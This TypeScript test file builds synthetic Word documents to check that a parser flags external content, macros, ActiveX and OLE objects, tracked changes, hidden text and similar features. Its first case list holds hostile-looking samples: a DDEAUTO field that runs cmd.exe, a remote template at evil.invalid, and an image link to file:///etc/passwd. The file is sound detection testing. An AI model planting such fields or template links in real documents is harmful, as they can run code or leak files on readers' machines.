import { type Case, describeCases, marked, caseReport as report } from "../testing/describe-cases.ts"
import { bodyXml, makeDocx, relationships, run } from "../testing/make-docx.ts"
import type { ZipPart } from "../testing/make-zip.ts"

const body = bodyXml(report)
const figure = run(String(marked))
/** The report with other runs in the place of the marked figure. */
const withRuns = (runs: string) => makeDocx(body.replace(figure, runs))
const change = (name: string, inner: string) => `<w:${name} w:id="1" w:author="a">${inner}</w:${name}>`
const deleted = (text: string) => change("del", `<w:r><w:delText>${text}</w:delText></w:r>`)
const field = (instruction: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction.slice(0, 3)}</w:instrText></w:r><w:r><w:instrText>${instruction.slice(3)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
const outside = (kind: string, target: string, part = "document2"): ZipPart => ({
  name: `word/_rels/${part}.xml.rels`,
  data: relationships([[kind, target]]).replace("/></", ' TargetMode="External"/></'),
})
const withPart = (more: ZipPart) => makeDocx(body, { more: [more] })
const alternate = (choice: string, fallback: string) =>
  `<mc:AlternateContent><mc:Choice Requires="wps">${run(choice)}</mc:Choice><mc:Fallback>${run(fallback)}</mc:Fallback></mc:AlternateContent>`
const without = (...cells: string[]) => Object.fromEntries(cells.map((cell) => [cell, undefined]))

const outsideCases: readonly Case[] = [
  ...["file:///etc/passwd", "/dev/zero", "http://intranet.invalid/a.png"].map(
    (target): Case => ({
      id: "C1",
      what: `a picture at ${target}`,
      name: "a.docx",
      make: () => withPart(outside("image", target)),
      warnings: ["external-content"],
    }),
  ),
  {
    id: "C1",
    what: "a link to click on",
    name: "a.docx",
    make: () => withPart(outside("hyperlink", "http://www.example.invalid/")),
  },
  {
    id: "C2",
    what: "a template elsewhere",
    name: "a.docx",
    make: () => withPart(outside("attachedTemplate", "http://evil.invalid/a.dotm", "settings")),
    warnings: ["external-content"],
  },
  {
    id: "C2",
    what: "the template that everybody has",
    name: "a.docx",
    make: () => withPart(outside("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "settings")),
  },
  {
    id: "C2",
    what: "a field that starts a program",
    name: "a.docx",
    make: () => makeDocx(`${body}<w:p>${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "")}</w:p>`),
    warnings: ["external-content"],
  },
  {
    id: "C2",
    what: "a picture that a field fetches",
    name: "a.docx",
    make: () =>
      makeDocx(
        body +
          `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://a.invalid/&quot;">${run("")}</w:fldSimple></w:p>`,
      ),
    warnings: ["external-content"],
  },
  {
    id: "C2",
    what: "macros",
    name: "a.docm",
    make: () => withPart({ name: "word/vbaProject.bin", data: "x" }),
    warnings: ["active-content"],
  },
  {
    id: "C2",
    what: "a control",
    name: "a.docx",
    make: () => withPart({ name: "word/activeX/activeX1.xml", data: "<a/>" }),
    warnings: ["active-content"],
  },
  {
    id: "C2",
    what: "an object",
    name: "a.docx",
    make: () =>
      makeDocx(`${body}<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>`, {
        more: [{ name: "word/embeddings/oleObject1.bin", data: "x" }],
      }),
    warnings: ["content-unread"],
  },
]

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const textCases: readonly Case[] = [
  {
    id: "C3",
    what: "a figure changed and not accepted",
    name: "a.docx",
    make: () => withRuns(deleted("12") + change("ins", figure)),
    warnings: ["tracked-changes"],
  },
  {
    id: "C3",
    what: "a digit put in and not accepted",
    name: "a.docx",
    make: () => withRuns(run("98765") + change("ins", run("4"))),
    warnings: ["tracked-changes"],
  },
  {
    id: "C3",
    what: "a row taken out and not accepted",
    name: "a.docx",
    make: () =>
      makeDocx(body.replace(/(<w:tr>)((?:(?!<w:tr>)[\s\S])*987654)/, `$1<w:trPr>${change("del", "")}</w:trPr>$2`)),
    cells: without(...["issued", "repealed", "in-force"].map((column) => `disclosure/regulations/${column}`)),
    warnings: ["row-missing", "tracked-changes"],
  },
  {
    id: "C4",
    what: "a hidden digit",
    name: "a.docx",
    make: () => withRuns(figure + run("1", "<w:vanish/>")),
    warnings: ["hidden-text"],
  },
  {
    id: "C4",
    what: "a comment and a footnote beside a figure",
    name: "a.docx",
    make: () =>
      makeDocx(
        body.replace(
          figure,
          `${figure}<w:r><w:commentReference w:id="1"/></w:r><w:r><w:footnoteReference w:id="2"/></w:r>`,
        ),
        {
          more: [
            {
              name: "word/footnotes.xml",
              data: `<w:footnotes ${w}><w:footnote w:type="separator" w:id="0"/><w:footnote w:id="2">15</w:footnote></w:footnotes>`,
            },
            { name: "word/comments.xml", data: `<w:comments ${w}><w:comment w:id="1">15</w:comment></w:comments>` },
          ],
        },
      ),
    warnings: ["comments", "footnotes"],
  },
  {
    id: "C7",
    what: "a figure that was calculated",
    name: "a.docx",
    make: () => withRuns(field("=SUM(ABOVE)", String(marked))),
    warnings: ["formula-result"],
  },
  {
    id: "C8",
    what: "a figure in a content control",
    name: "a.docx",
    make: () => withRuns(`<w:sdt><w:sdtContent>${figure}</w:sdtContent></w:sdt>`),
  },
  {
    id: "C8",
    what: "one figure for new programs and another for old ones",
    name: "a.docx",
    make: () => withRuns(alternate(String(marked), "12")),
    warnings: ["alternate-content"],
  },
]

describeCases("C. what is not the text", outsideCases)
describeCases("C. text", textCases)
